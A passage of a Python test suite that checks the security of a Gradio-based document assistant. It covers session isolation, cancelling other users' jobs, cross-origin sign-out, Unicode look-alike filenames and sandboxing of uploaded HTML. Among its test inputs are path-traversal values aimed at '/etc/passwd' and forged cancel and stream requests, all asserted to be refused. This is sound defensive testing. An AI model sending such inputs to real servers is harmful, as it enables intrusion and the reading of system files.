    assert ed.get("/gradio_api/queue/data", params={"session_hash": hers}).status_code == 403
    assert ed.get(f"/gradio_api/heartbeat/{hers}").status_code == 403
    assert httpx.get(f"{base}/gradio_api/heartbeat/{hers}").status_code == 403  # nor anyone not signed in
    assert ed.get(f"/gradio_api/stream/{hers}/0/1/playlist.m3u8").status_code == 403
    # A job started through /gradio_api/call is its starter's too.
    started = call(ann, "chat", ["What is Wee Breathers?", [], "All", "All"]).json()["event_id"]
    assert ed.get(f"/gradio_api/call/chat/{started}").status_code == 403
    assert "Wee Breathers" in last_message(result(ann, "chat", started)[0])
    # Each user's own sessions work as before.
    assert queued_answer(ed, demo, "ed-session-0001", "Who created Wee Breathers?").status_code == 200
    assert "Wee Breathers" in session_messages(ed, "ed-session-0001")
    assert queued_answer(ann, demo, hers, "Who is it for?").status_code == 200
    assert "process_completed" in session_messages(ann, hers)


# --- cancel ------------------------------------------------------------------------------------------


def test_only_the_session_that_queued_a_job_can_cancel_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    gate = threading.Event()
    answered = _gate_answers(monkeypatch, gate)
    with serving(tmp_path / "store", concurrency=1) as (base, _, demo):
        ann, bob = signed_in(base, "ann"), signed_in(base, "ed")
        question = ["What is Wee Breathers?", [], "All", "All"]
        running = call(ann, "chat", question).json()["event_id"]
        queued = call(ann, "chat", question).json()["event_id"]
        chat = next(index for index, fn in demo.fns.items() if fn.api_name == "chat")
        body = {"session_hash": queued, "fn_index": chat, "event_id": queued}
        assert httpx.post(f"{base}/gradio_api/cancel", json=body).status_code == 403  # no session at all
        assert bob.post("/gradio_api/cancel", json=body).status_code == 403  # another signed-in user
        assert ann.post("/gradio_api/cancel", json=body | {"session_hash": "guessed"}).status_code == 403
        # Gradio's stream routes need no sign-in: they would close the job, or swap its question.
        assert httpx.post(f"{base}/gradio_api/stream/{queued}/close").status_code == 403
        swapped = {"data": ["Zebra husbandry in Peru?", [], "All", "All"], "fn_index": chat, "session_hash": queued}
        assert bob.post(f"/gradio_api/stream/{queued}", json=swapped).status_code == 403
        gate.set()
        assert "Wee Breathers" in last_message(result(ann, "chat", running)[0])
        assert "Wee Breathers" in last_message(result(ann, "chat", queued)[0])  # the attacks cancelled nothing
        gate.clear()
        running = call(ann, "chat", question).json()["event_id"]
        wait_for(lambda: len(answered) == 3, "the third question to reach the answerer")  # the worker is busy
        queued = call(ann, "chat", question).json()["event_id"]
        own = ann.post("/gradio_api/cancel", json={"session_hash": queued, "fn_index": chat, "event_id": queued})
        assert own.status_code == 200  # the owner may
        gate.set()
        result(ann, "chat", running)
        # One worker takes jobs in order: a question sent now is answered after the cancelled one would be.
        result(ann, "chat", call(ann, "chat", question).json()["event_id"])
        assert len(answered) == 4  # the cancelled job never reached the answerer


def _gate_answers(monkeypatch: pytest.MonkeyPatch, gate: threading.Event) -> list[str]:
    """Every answer waits for ``gate``, so jobs pile up in Gradio's queue (one worker); returns the
    questions that reached the answerer."""
    from assistant.answer.answering import Answerer

    answered: list[str] = []
    original = Answerer.stream

    def gated(self: Answerer, question: str, *args: Any, **kwargs: Any) -> Any:
        answered.append(question)
        gate.wait(30)
        yield from original(self, question, *args, **kwargs)

    monkeypatch.setattr(Answerer, "stream", gated)
    return answered


# --- signing out, originals, what Gradio would answer with a traceback -----------------------------------


def test_only_a_post_from_the_apps_own_page_signs_out(app: tuple[str, Library, AssistantBlocks]) -> None:
    base, _, _ = app
    mallory = signed_in(base, "mallory")
    assert mallory.get("/logout").status_code == 405  # a link, an <img> or a navigation from any page
    navigated = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "navigate"}  # a form on another port
    assert mallory.post("/logout", headers={"Origin": "http://127.0.0.1:8899", **navigated}).status_code == 403
    assert mallory.get("/gradio_api/info").status_code == 200  # still signed in
    own = mallory.post("/logout", headers={"Origin": base, "Sec-Fetch-Site": "same-origin"})
    assert own.status_code == 302
    assert mallory.get("/gradio_api/info").status_code != 200  # signed out


def test_in_chromium_a_page_on_another_port_cannot_sign_the_user_out_and_sign_out_does(
    app: tuple[str, Library, AssistantBlocks],
) -> None:
    if not Path(CHROMIUM).exists():
        pytest.skip("Chromium is not installed (Debian: apt-get install chromium)")
    from playwright.sync_api import expect, sync_playwright

    base, _, _ = app
    with _another_page_server() as evil, sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            page = chromium.new_context().new_page()
            _sign_in_in_chromium(page, base, "mallory")
            page.goto(evil)
            with page.expect_navigation():
                page.evaluate("(app) => { window.location.href = app + '/logout'; }", base)  # a link followed
            page.goto(f"{base}/")
            expect(page.get_by_role("button", name="Sign out")).to_be_visible(timeout=30_000)  # still signed in
            page.get_by_role("button", name="Sign out").click()
            expect(page.get_by_label("username")).to_be_visible(timeout=30_000)
        finally:
            chromium.close()


def test_a_cards_original_opens_by_its_name_and_nothing_else_does(app: tuple[str, Library, AssistantBlocks]) -> None:
    base, _, demo = app
    reader = signed_in(base, "ann")
    opened = reader.get(f"/originals/{SEED}")
    assert opened.status_code == 200 and opened.text == (demo.library.settings.seeds_dir / SEED).read_text()
    assert "sandbox" in opened.headers["content-security-policy"]  # served as a document, never as the app
    for missing in ("absent.txt", "..%2F..%2Fpyproject.toml", "%2Fetc%2Fpasswd"):
        assert reader.get(f"/originals/{missing}").status_code == 404, missing
    assert httpx.get(f"{base}/originals/{SEED}").status_code != 200  # signed in first
    # before sign-in, a name the library holds and one it does not get the same answer
    assert httpx.get(f"{base}/originals/{SEED}").status_code == httpx.get(f"{base}/originals/absent.txt").status_code


def test_gradios_named_parameter_routes_and_lone_surrogates_get_one_sentence_not_a_traceback(
    app: tuple[str, Library, AssistantBlocks], capfd: pytest.CaptureFixture[str]
) -> None:
    base, _, _ = app
    editor = signed_in(base, "ed")
    for name in ("upload", "chat", "nothing_of_that_name"):
        response = editor.post(f"/gradio_api/call/v2/{name}", json={"question": "What is Wee Breathers?"})
        assert response.status_code == 404 and "no public API endpoint" in response.json()["detail"], name
    unpaired = b'{"data": ["What is Wee Breathers? \\ud800"]}'
    response = editor.post("/gradio_api/call/chat", content=unpaired, headers={"Content-Type": "application/json"})
    assert response.status_code == 400 and "not valid Unicode" in response.json()["detail"]
    for content_type in ("text/json", "APPLICATION/JSON", "application/vnd.api+json", None):
        headers = {"Content-Type": content_type} if content_type else {}
        response = editor.post("/gradio_api/call/chat", content=unpaired, headers=headers)
        assert response.status_code == 400, content_type  # FastAPI reads these as JSON: so does the guard
    assert "Traceback" not in "".join(capfd.readouterr())


# --- housekeeping --------------------------------------------------------------------------------------


def test_a_notes_folder_name_is_protected_in_any_case(app: tuple[str, Library, AssistantBlocks]) -> None:
    _, library, _ = app
    before = {entry.source: entry.chunk_ids for entry in library.documents()}
    look_alikes = (
        SEED.upper().replace(".TXT", ".txt"), SEED.replace(".txt", ".TXT"), SEED.capitalize(),
        SEED.replace("c", "\u0441"),  # Cyrillic es
        SEED.replace("0", "\uff10"),  # full-width zero
    )  # fmt: skip
    for name in look_alikes:
        with pytest.raises(DocumentError, match="notes folder"):
            library.upload(name, b"Replacement notes about something else entirely, written by someone.")
    assert {entry.source: entry.chunk_ids for entry in library.documents()} == before


def test_an_upload_differing_only_in_case_from_another_is_refused(tmp_path: Path) -> None:
    _, library, _ = fake_core(tmp_path / "store")
    notes = b"Harbour Notes\n\nKelpie Mentoring pairs teenagers with volunteer sailors every week.\n"
    library.upload("Harbour.md", notes)
    with pytest.raises(DocumentError, match="use that exact name"):
        library.upload("harbour.md", notes)
    assert library.upload("Harbour.md", notes + b"\nNew paragraph about cooking together.\n").replaced


def test_a_malformed_four_megabyte_request_is_one_short_log_line(
    app: tuple[str, Library, AssistantBlocks], caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    base, _, _ = app
    caplog.set_level(logging.WARNING)
    session = signed_in(base, "ann")
    capfd.readouterr()
    secret = "a question nobody should log "
    payloads = [
        ("/gradio_api/call/chat", {"data": [secret * 150_000]}),  # too few inputs, 4 MB of them
        ("/gradio_api/call/chat", {"data": [secret, [{"role": "nobody"}] * 100_000, "All", "All"]}),
        ("/gradio_api/queue/join", {"data": [secret * 150_000], "fn_index": "not a number", "session_hash": 5}),
        ("/gradio_api/cancel", {"session_hash": [secret] * 100_000, "event_id": 3}),
    ]
    for path, payload in payloads:
        response = session.post(path, json=payload)
        if response.status_code == 200 and "event_id" in response.json():
            with session.stream("GET", f"/gradio_api/call/chat/{response.json()['event_id']}") as stream:
                body = "".join(stream.iter_lines())
            assert "event: error" in body and secret not in body
        else:
            assert response.status_code in {403, 413, 422} and len(response.content) < 1000

    def refusals_logged() -> bool:
        messages = [record.getMessage() for record in caplog.records]
        return sum("malformed" in message or "Refused" in message for message in messages) >= 3

    wait_for(refusals_logged, "three refusals in the log")
    stderr = capfd.readouterr().err
    logged = [record.getMessage() for record in caplog.records]
    assert secret not in stderr and len(stderr) < 2000
    assert all(secret not in message and len(message) < 500 for message in logged)
    assert sum("malformed" in message or "Refused" in message for message in logged) >= 3
    conversation, *_ = client_for(base, "ann").predict("What is Wee Breathers?", [], "All", "All", api_name="/chat")
    assert "Wee Breathers" in last_message(conversation)


@pytest.mark.slow  # starts the app as its own process
@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "Ctrl-C"])
def test_stopping_the_app_removes_the_downloads_named_after_questions(
    tmp_path: Path, stop: signal.Signals, served_app: Callable[..., subprocess.Popen]
) -> None:
    _, _, settings = fake_core(tmp_path / "store")  # a store the served app opens with the same fake embedder
    port = free_port()
    env = child_env(store_dir=settings.store_dir, embedding_model="fake-hashing", collection=settings.collection,
                    llm="extractive", cache_dir=tmp_path / "cache")  # fmt: skip
    env |= {"TMPDIR": str(tmp_path / "tmp"), "GRADIO_TEMP_DIR": str(tmp_path / "gradio")}
    (tmp_path / "tmp").mkdir()
    server = served_app(env, port, fake_embedder=True)  # the real 'serve' command, the hashing embedder
    client = Client(f"http://127.0.0.1:{port}/", verbose=False, download_files=False)
    *_, download = client.predict("Which projects help families at home?", [], "All", "All", api_name="/chat")
    assert download
    left = _files_named_after_the_question(tmp_path)
    assert len(left) >= 2, left  # ours, and Gradio's copy in its cache
    server.send_signal(stop)
    server.wait(timeout=60)
    assert _files_named_after_the_question(tmp_path) == []
    assert not list((tmp_path / "tmp").glob("promise-assistant-*"))
    assert "Traceback" not in (tmp_path / "app.log").read_text(errors="replace")


def _files_named_after_the_question(root: Path) -> list[Path]:
    return [path for path in root.rglob("which-projects-help-families-at-home*") if path.is_file()]


@pytest.mark.parametrize(
    ("path", "sandboxed", "downloaded"),
    [
        ("/gradio_api/file=/notes/uploads/evil%2Ehtml", True, True),
        ("/gradio_api/file//notes/uploads/evil.html", True, True),  # Gradio's other route to the same files
        ("/gradio_api/file=/notes/seeds/001_notes.txt", True, False),
        ("/gradio_api/info", False, False),
    ],
)
def test_served_documents_never_run_as_the_app(path: str, sandboxed: bool, downloaded: bool) -> None:
    """An uploaded page opened from its card is sandboxed (and a page downloaded), so it cannot act as the app."""
    import asyncio

    from assistant.guard import _unframed

    sent: list[dict] = []

    async def send(message: dict) -> None:
        sent.append(message)

    gradios = [(b"content-disposition", b'inline; filename="evil.html"')]
    asyncio.run(_unframed(send, path)({"type": "http.response.start", "status": 200, "headers": gradios}))
    dispositions = [value for name, value in sent[0]["headers"] if name == b"content-disposition"]
    values = [value for _, value in sent[0]["headers"]]
    assert (b"sandbox" in values) is sandboxed
    assert dispositions == ([b"attachment"] if downloaded else [b'inline; filename="evil.html"'])  # one, never two
    assert b"frame-ancestors 'self'" in values  # every response keeps its framing rule
